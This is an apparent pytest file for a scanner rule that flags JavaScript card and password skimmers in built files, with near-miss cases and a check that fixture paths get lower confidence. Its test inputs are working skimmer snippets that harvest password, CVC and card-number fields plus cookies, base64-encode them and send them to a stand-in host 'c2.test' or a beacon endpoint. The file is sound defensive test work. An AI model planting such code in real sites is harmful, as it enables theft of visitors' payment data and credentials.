import pytest

from lazaretto.detect.rules.javascript.skims_forms import RULE

SAYS = "collects what visitors type into password and card fields, encodes it and sends it away"
TAKES = """
const all = (form) => { let s = ''; for (const f of form.elements) s += f.name + '=' + f.value + ';'; return s };
"""


def test_form_action(look):
    source = (
        TAKES
        + """for (const form of document.forms) for (const f of form.elements)
  if (f.type == 'password' || f.name.toLowerCase() == 'cvc')
    form.addEventListener('submit', function () { this.action = 'https://c2.test/?' + btoa(all(this) + document.cookie) });
"""
    )
    assert look(RULE, source, "dist/index.js") == [(4, "CRITICAL", "HIGH", SAYS)]


@pytest.mark.parametrize(
    "source",
    [
        # as a minifier leaves it
        "for(var i of document.forms)'cvc'==i.elements[0].name.toLowerCase()&&i.addEventListener('submit',()=>{k.href=H+btoa(i.elements[0].value)})",
        (
            "setInterval(() => { document.querySelectorAll('input').forEach(f => { if (/cvv|card.?num/i.test(f.name)) s += f.value })\n"
            "new Image().src = HOST + btoa(s) }, 900)"
        ),
        (
            "document.addEventListener('change', () => { const v = [...document.querySelectorAll('input[name*=cardnumber]')].map(f => f.value)\n"
            "navigator.sendBeacon(HOST, btoa(JSON.stringify(v))) })"
        ),
    ],
)
def test_without_cookies_it_is_less_certain(look, source):
    assert [fact[1:] for fact in look(RULE, source, "dist/index.js")] == [("HIGH", "MEDIUM", SAYS)]


@pytest.mark.parametrize(
    "source",
    [
        # a payment form of its own
        "form.addEventListener('submit', () => fetch('/pay', { body: JSON.stringify({ cvc: form.cvc.value, n: form.cardnumber.value }) }))",
        # a recorder that leaves such fields out
        "const hidden = /cvv|cardnum/i.test(f.name) || f.type === 'password'; if (!hidden) queue.push(f.value); navigator.sendBeacon(host, queue)",
        # a check of what was typed
        "form.elements.forEach(f => { if (f.name == 'cvc' && !/^[0-9]{3}$/.test(f.value)) f.setCustomValidity('3 digits') })",
    ],
)
def test_near_misses(look, source):
    assert look(RULE, source, "dist/index.js") == []


def test_many_names_stay_quick(look):
    assert look(RULE, "const cvc = 'cardnum';\n" * 100_000, "dist/index.js") == []


def test_fixture_says_less(look):
    source = (
        TAKES
        + "if (f.name == 'cvc') { this.action = H + btoa(all(f) + document.cookie); on('submit') } f.addEventListener('submit')"
    )
    assert [fact[1:3] for fact in look(RULE, source, "test/form.test.js")] == [("MEDIUM", "LOW")]
